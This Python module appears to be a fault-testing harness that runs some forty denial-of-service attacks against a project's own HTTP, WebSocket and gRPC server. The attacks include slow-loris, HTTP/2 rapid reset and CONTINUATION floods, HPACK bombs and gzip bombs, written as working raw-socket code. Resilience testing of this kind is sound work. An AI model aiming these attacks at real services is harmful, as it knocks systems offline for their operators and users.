"""What one peer without a key can send to a server: ``python -m tests.faults.attacks NAME ADDRESS SECONDS``.

Each attack is raw bytes on plain sockets, sent as fast as the server takes them. A connection that the server closes is
opened again, as an attacker does. It runs in a process of its own, so that it does not slow down the process that
measures. It prints one JSON object.
"""

from __future__ import annotations

import base64
import json
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

# A server that reads nothing for this long has stopped reading.
_BLOCKED_S = 1.0
# Connections in a row that a server closes at once: the attacker then waits a moment, as a real network would make it wait.
_PAUSE_S = 0.002


@dataclass
class Sent:
    """What the server accepted: bytes, units of the attack and connections; and how the last connection ended."""

    sent_bytes: int = 0
    units: int = 0
    connections: int = 0
    ended: str = ""


@dataclass(frozen=True, slots=True)
class Attack:
    """``opening`` is sent first on every connection, then ``units`` without an end. ``reads``: whether the peer reads.

    ``limit``: why the server's library does not allow to keep the bounds, which the bench then prints beside the faults.
    """

    name: str
    words: tuple[str, ...]
    opening: Callable[[str], bytes]
    units: Callable[[], Iterator[bytes]]
    reads: bool = False
    at_once: int = 1
    limit: str = ""


def run(attack: Attack, address: str, seconds: float) -> Sent:
    """Attack until the time is over."""
    sent = Sent()
    until = time.monotonic() + seconds
    host, _, port = address.rpartition(":")
    peers: list[tuple[socket.socket, Iterator[bytes]]] = []
    while time.monotonic() < until:
        while len(peers) < attack.at_once:
            try:
                peer = socket.create_connection((host, int(port)), _BLOCKED_S)
                peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                peer.sendall(attack.opening(address))
                if attack.opening is websocket_open:
                    # RFC 6455, section 4.1: what a client sends before the server's handshake is no frame.
                    peer.recv(4096)
                sent.connections += 1
                peers.append((peer, attack.units()))
            except OSError as error:
                sent.ended = repr(error)
                time.sleep(_PAUSE_S)
                if time.monotonic() > until:
                    break
        for peer, units in list(peers):
            try:
                data = next(units)
                peer.sendall(data)
                sent.sent_bytes += len(data)
                sent.units += 1
                if attack.reads:
                    peer.setblocking(False)
                    try:
                        if not peer.recv(1 << 20):
                            raise ConnectionResetError
                    except BlockingIOError:
                        pass
                    finally:
                        peer.settimeout(_BLOCKED_S)
            except TimeoutError:
                # The server has stopped reading. The connection stays open, and the attacker goes on with the same one.
                sent.ended = "the server stopped reading"
            except (OSError, StopIteration) as error:
                sent.ended = repr(error) if isinstance(error, OSError) else "all sent"
                if isinstance(error, StopIteration):
                    continue
                peer.close()
                peers.remove((peer, units))
                time.sleep(_PAUSE_S)
    for peer, _ in peers:
        peer.close()
    return sent


def endless(unit: bytes) -> Callable[[], Iterator[bytes]]:
    """The same bytes again and again."""

    def units() -> Iterator[bytes]:
        while True:
            yield unit

    return units


def nothing(address: str) -> bytes:
    """No opening."""
    return b""


def http_get(address: str) -> bytes:
    """The beginning of a head that does not end."""
    return f"GET /health HTTP/1.1\r\nHost: {address}\r\n".encode()


def http_header(address: str) -> bytes:
    """The beginning of a header that does not end."""
    return http_get(address) + b"X-A: "


def http_url(address: str) -> bytes:
    """The beginning of a path that does not end."""
    return b"GET /"


def http_chunked(address: str) -> bytes:
    """A POST whose body has no end."""
    return (
        f"POST /turns HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
    ).encode()


def http_trailers(address: str) -> bytes:
    """A chunked body whose trailers have no end (RFC 9112, section 7.1.2)."""
    return http_chunked(address) + b"2\r\n{}\r\n0\r\n"


def http_pipeline(address: str) -> Callable[[], Iterator[bytes]]:
    """Whole requests one after the other, whose answers nobody reads."""
    return endless(f"GET /health HTTP/1.1\r\nHost: {address}\r\n\r\n".encode() * 200)


def websocket_open(address: str) -> bytes:
    """The handshake (RFC 6455, section 4), without a key."""
    key = base64.b64encode(b"x" * 16).decode()
    return (
        f"GET /ws HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Protocol: genai.chat.v1\r\n\r\n"
    ).encode()


def websocket_frame(opcode: int, payload: bytes, *, fin: bool = True) -> bytes:
    """A masked frame (RFC 6455, section 5.2); the mask is zero."""
    first = (0x80 if fin else 0) | opcode
    size = len(payload)
    if size < 126:
        head = struct.pack("!BB", first, 0x80 | size)
    elif size < 65536:
        head = struct.pack("!BBH", first, 0x80 | 126, size)
    else:
        head = struct.pack("!BBQ", first, 0x80 | 127, size)
    return head + bytes(4) + payload


def fragments(payload: bytes, count: int) -> Callable[[], Iterator[bytes]]:
    """One message in fragments without an end."""

    def units() -> Iterator[bytes]:
        yield websocket_frame(1, payload, fin=False)
        while True:
            yield websocket_frame(0, payload, fin=False) * count

    return units


def mixed_fragments() -> Iterator[bytes]:
    """One message in fragments without an end, with pings between the fragments (RFC 6455, section 5.4)."""
    yield websocket_frame(1, b"", fin=False)
    while True:
        yield (websocket_frame(0, b"", fin=False) + websocket_frame(9, b"p" * 125)) * 500


def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, section 4.1)."""
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
# A type that no standard names: a receiver ignores such a frame (RFC 9113, section 5.5).
UNKNOWN = 0xFA
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def http2_open(address: str) -> bytes:
    """The preface and empty SETTINGS."""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(SETTINGS, 0, 0)


def http2_acknowledged(address: str) -> bytes:
    """The same, and the acknowledgement of the server's SETTINGS (RFC 9113, section 6.5.3)."""
    return http2_open(address) + http2_frame(SETTINGS, ACK, 0)


def http2_closed_window(address: str) -> bytes:
    """The preface, with a window of zero bytes for what the server sends."""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))


def hpack(name: bytes, value: bytes) -> bytes:
    """A literal header that is not indexed (RFC 7541, section 6.2.2)."""

    def text(data: bytes) -> bytes:
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, encoded = len(data) - 127, bytearray([127])
        while rest >= 128:
            encoded.append(rest % 128 | 128)
            rest //= 128
        return bytes(encoded) + bytes([rest]) + data

    return b"\x00" + text(name) + text(value)


def call_headers(path: bytes, *extra: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call."""
    given = (
        (b":path", path),
        (b":authority", b"127.0.0.1"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    # 0x83 is ":method: POST" and 0x86 is ":scheme: http" in the static table.
    return b"\x83\x86" + b"".join(hpack(name, value) for name, value in (*given, *extra))


SEND = b"/chat.ChatService/SendMessage"
WATCH = b"/grpc.health.v1.Health/Watch"
CHECK = b"/grpc.health.v1.Health/Check"
EMPTY_MESSAGE = bytes(5)


def streams(frames: Callable[[int], bytes], count: int) -> Callable[[], Iterator[bytes]]:
    """Calls on one connection, ``count`` in a write; ``frames`` gives the frames of one stream."""

    def units() -> Iterator[bytes]:
        stream = 1
        while stream < 2**31 - 2 * count:
            yield b"".join(frames(number) for number in range(stream, stream + 2 * count, 2))
            stream += 2 * count

    return units


def reset_call(stream: int) -> bytes:
    """A call that is reset as soon as it is made (CVE-2023-44487)."""
    return http2_frame(HEADERS, END_HEADERS, stream, call_headers(SEND)) + http2_frame(
        RST, 0, stream, struct.pack("!I", 8)
    )


def whole_call(path: bytes) -> Callable[[int], bytes]:
    """A whole call with an empty message."""
    headers = call_headers(path)
    return lambda stream: (
        http2_frame(HEADERS, END_HEADERS, stream, headers) + http2_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
    )


def open_call(stream: int) -> bytes:
    """A call whose message never comes."""
    return http2_frame(HEADERS, END_HEADERS, stream, call_headers(SEND))


def huge_call(stream: int) -> bytes:
    """A call with 12 KiB of metadata, in one frame."""
    return http2_frame(HEADERS, END_HEADERS, stream, call_headers(SEND, (b"x-a", b"a" * 12_000)))


def continuations() -> Iterator[bytes]:
    """A header block that does not end (CVE-2024-27316)."""
    yield http2_frame(HEADERS, 0, 1, call_headers(SEND))
    block = hpack(b"x-a", b"a" * 4000)
    while True:
        yield http2_frame(CONTINUATION, 0, 1, block) * 16


def hpack_bombs() -> Iterator[bytes]:
    """Calls whose few KB of header block name one header of 4,000 bytes again and again (RFC 7541, section 6.1)."""
    entry = b"\x40" + hpack(b"x-a", b"a" * 4000)[1:]
    yield http2_frame(HEADERS, END_HEADERS | END_STREAM, 1, call_headers(SEND) + entry)
    stream = 3
    while True:
        yield http2_frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(SEND) + entry + b"\xbe" * 8000)
        stream += 2


def empty_data() -> Iterator[bytes]:
    """DATA frames without data."""
    yield http2_frame(HEADERS, END_HEADERS, 1, call_headers(SEND))
    while True:
        yield http2_frame(DATA, 0, 1) * 5000


def gzip_bombs() -> Iterator[bytes]:
    """Messages of 0.5 MB that are 512 MB when they are decompressed."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    zipped = b"".join(squeeze.compress(bytes(1 << 20)) for _ in range(512)) + squeeze.flush()
    message = b"\x01" + struct.pack("!I", len(zipped)) + zipped
    stream = 1
    while True:
        yield http2_frame(HEADERS, END_HEADERS, stream, call_headers(SEND, (b"grpc-encoding", b"gzip")))
        for start in range(0, len(message), 16384):
            piece = message[start : start + 16384]
            yield http2_frame(DATA, END_STREAM if start + 16384 >= len(message) else 0, stream, piece)
        # Half a megabyte a call against a window of 64 KiB: the rest waits for the server's WINDOW_UPDATE.
        stream += 2


HTTP = ("rest", "ndjson", "sse", "websocket")
LORIS = 300

ATTACKS: dict[str, Attack] = {
    attack.name: attack
    for attack in (
        Attack("head: one header", HTTP, http_header, endless(b"a" * 65536)),
        Attack(
            "head: many headers",
            HTTP,
            http_get,
            endless(b"".join(b"X-%05d: %s\r\n" % (i, b"b" * 50) for i in range(1000))),
        ),
        Attack("head: short headers", HTTP, http_get, endless(b"a:b\r\n" * 10_000)),
        Attack("head: empty lines", HTTP, nothing, endless(b"\r\n" * 30_000)),
        Attack("head: long path", HTTP, http_url, endless(b"c" * 65536)),
        Attack("body: without end", HTTP, http_chunked, endless(b"10000\r\n" + b"d" * 65536 + b"\r\n")),
        Attack("body: tiny chunks", HTTP, http_chunked, endless(b"1\r\n \r\n" * 10_000)),
        Attack("body: chunk extensions", HTTP, http_chunked, endless(b"1;" + b"x" * 8000 + b"\r\n \r\n")),
        Attack("trailers: without end", HTTP, http_trailers, endless(b"X-T: " + b"e" * 4000 + b"\r\n")),
        Attack("pipeline: unread", HTTP, nothing, http_pipeline("127.0.0.1")),
        Attack("slow-loris", HTTP, http_get, endless(b"X"), at_once=LORIS),
        Attack("fragments: empty", ("websocket",), websocket_open, fragments(b"", 5000)),
        Attack("fragments: one byte", ("websocket",), websocket_open, fragments(b"a", 5000)),
        Attack("pings: between fragments", ("websocket",), websocket_open, mixed_fragments),
        Attack("fragments: unfinished", ("websocket",), websocket_open, fragments(b"a" * 60_000, 1), at_once=20),
        Attack("pings: unread", ("websocket",), websocket_open, endless(websocket_frame(9, b"p" * 125) * 500)),
        Attack(
            "pings: read", ("websocket",), websocket_open, endless(websocket_frame(9, b"p" * 125) * 500), reads=True
        ),
        Attack("pongs", ("websocket",), websocket_open, endless(websocket_frame(10, b"p" * 125) * 500)),
        Attack(
            "messages: unread", ("websocket",), websocket_open, endless(websocket_frame(1, b'{"type":"ping"}') * 500)
        ),
        Attack("rapid reset", ("grpc",), http2_open, streams(reset_call, 200)),
        Attack("rapid reset: read", ("grpc",), http2_open, streams(reset_call, 200), reads=True),
        Attack("calls: unread", ("grpc",), http2_open, streams(whole_call(SEND), 100)),
        Attack("calls: window of 0", ("grpc",), http2_closed_window, streams(whole_call(CHECK), 100)),
        Attack("calls: watching", ("grpc",), http2_open, streams(whole_call(WATCH), 100), reads=True),
        Attack("calls: without message", ("grpc",), http2_open, streams(open_call, 100), reads=True),
        Attack("calls: 12 KiB of metadata", ("grpc",), http2_open, streams(huge_call, 10), reads=True),
        Attack("head: CONTINUATION", ("grpc",), http2_open, continuations),
        Attack("head: HPACK bombs", ("grpc",), http2_acknowledged, hpack_bombs, reads=True),
        Attack(
            "head: HPACK bombs, no ACK",
            ("grpc",),
            http2_open,
            hpack_bombs,
            reads=True,
            limit="grpcio allows 16 MiB of metadata a call until its SETTINGS are acknowledged: protocols/grpc/README.md, Limits",
        ),
        Attack("goaways", ("grpc",), http2_open, endless(http2_frame(GOAWAY, 0, 0, bytes(8)) * 1000)),
        Attack("frames: unknown", ("grpc",), http2_open, endless(http2_frame(UNKNOWN, 0, 0, bytes(8000)) * 8)),
        Attack("data: empty frames", ("grpc",), http2_open, empty_data),
        Attack("data: gzip bombs", ("grpc",), http2_open, gzip_bombs, reads=True),
        Attack("settings", ("grpc",), http2_open, endless(http2_frame(SETTINGS, 0, 0) * 1000)),
        Attack("settings: read", ("grpc",), http2_open, endless(http2_frame(SETTINGS, 0, 0) * 1000), reads=True),
        Attack("pings", ("grpc",), http2_open, endless(http2_frame(PING, 0, 0, bytes(8)) * 1000)),
        Attack("pings: read ", ("grpc",), http2_open, endless(http2_frame(PING, 0, 0, bytes(8)) * 1000), reads=True),
        Attack(
            "window updates", ("grpc",), http2_open, endless(http2_frame(WINDOW, 0, 0, struct.pack("!I", 1)) * 1000)
        ),
        Attack("priorities", ("grpc",), http2_open, endless(http2_frame(PRIORITY, 0, 1, bytes(5)) * 1000)),
        Attack("preface: never", ("grpc",), nothing, endless(b"P"), at_once=LORIS),
    )
}


def main() -> None:
    """Run one attack."""
    name, address, seconds = sys.argv[1:]
    print(json.dumps(asdict(run(ATTACKS[name], address, float(seconds)))))


if __name__ == "__main__":
    main()
